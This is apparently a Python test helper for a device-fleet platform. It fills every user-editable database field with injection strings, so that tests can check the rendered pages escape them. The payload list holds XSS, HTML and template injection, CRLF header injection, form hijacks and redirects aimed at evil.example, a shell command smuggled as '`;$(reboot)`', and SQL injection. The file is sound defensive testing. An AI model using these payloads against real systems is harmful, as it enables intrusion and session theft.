"""Texts that try to become more than text, and where somebody can put them."""

import random
from typing import Final

from sqlalchemy import ColumnElement, String, cast, literal, update
from sqlalchemy.orm import InstrumentedAttribute

from support.platform_pages import PageWorld
from tinycontainer.network.platform.tables.catalogue import (
    ApplicationRow,
    PublicKey,
    ReleaseToken,
)
from tinycontainer.network.platform.tables.components import ReleaseComponentRow
from tinycontainer.network.platform.tables.evidence import DeviceEventRow, DeviceEvidenceRow
from tinycontainer.network.platform.tables.fleet import DeviceProfile, DeviceRow
from tinycontainer.network.platform.tables.people import ApiToken, AuditEntry, Organisation, Person
from tinycontainer.network.platform.tables.renting import OfferRow, RentalRow
from tinycontainer.network.platform.tables.rollouts import (
    DeviceContainerRow,
    RolloutDeviceRow,
    RolloutRow,
)

PLAIN: Final = "plain"
PAYLOADS: Final = (
    "<script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="',
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<iframe src=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=csrf>", "</form><form action=//evil.example>",
    '"><input name="csrf" value="x', "<button formaction=//evil.example>x</button>",
    "</table></div></main><h1>forged</h1>", "</td><td>forged", "<!--", "-->", "<![CDATA[x]]>",
    "<?php echo 1 ?>", "</textarea>", "</code></pre>", "<plaintext>",
    '<noscript><p title="</noscript>', "<template><script>", "<math><mtext>", "&lt;script&gt;",
    "&#60;script&#62;", "&", "%3Cscript%3E", "{{ 7 * 7 }}", "{% include 'base.html' %}",
    "{{ visitor.csrf }}", "${7*7}", "//evil.example", "https://evil.example", "/\\evil.example",
    "../../api/session", "a\r\nSet-Cookie: x=y", "\x00\x08\x1b[2J", "\u202eabc\u2066\u200b",
    "\ufeff\uff1cscript\uff1e", "`;$(reboot)`", "' OR 1=1 --",
)  # fmt: skip
IS_SPARE: Final = DeviceRow.id.in_((2, 4))
"""Devices whose own pages are not looked at."""


def combined_payloads(count: int) -> list[str]:
    """Payloads one behind the other, in ever new orders; the same in every run.

    Args:
        count: of different texts.
    """
    draw = random.Random(20)
    found: dict[str, None] = {}
    while len(found) < count:
        found["".join(draw.sample(PAYLOADS, draw.randint(1, 5)))] = None
    return list(found)


def unique(text: str, number: InstrumentedAttribute[int]) -> ColumnElement[str]:
    """A text with the number of its row."""
    return literal(text) + cast(number, String)


def write_everywhere(world: PageWorld, text: str) -> None:
    """Put a text into all that somebody can name, past all checks; no database keeps a zero."""
    text = text.replace("\x00", "")
    with world.platform.database.transaction() as session:
        for statement in (
            update(ApplicationRow).values(name=text),
            update(PublicKey).values(name=text, role=text),
            update(ReleaseToken).values(person=text),
            update(ReleaseComponentRow).values(version=text, purl=text),
            update(DeviceProfile).values(name=text),
            update(DeviceRow).values(kind=text, group=text, labels={text: text}, gateway=text),
            update(ApiToken).values(name=text),
            update(AuditEntry).values(deed=text, subject=text, detail=text, person=text),
            update(DeviceEventRow).values(content=text.encode()),
            update(DeviceEvidenceRow).values(problem="gap", problem_detail=text, problem_s=0.0),
            update(OfferRow).values(name=text, description=text),
            update(RentalRow).values(asked_by=text, decided_by=text),
            update(RolloutRow).values(name=text, halt_reason=text),
            update(RolloutDeviceRow).values(reason=text, detail=text),
            update(DeviceContainerRow).values(reported_state=text, reported_exit=text),
            # No two have the same.
            update(Organisation).values(name=unique(text, Organisation.id)),
            update(Person).values(name=unique(text, Person.id)),
            update(DeviceRow).where(IS_SPARE).values(name=unique(text, DeviceRow.id)),
        ):
            session.execute(statement)
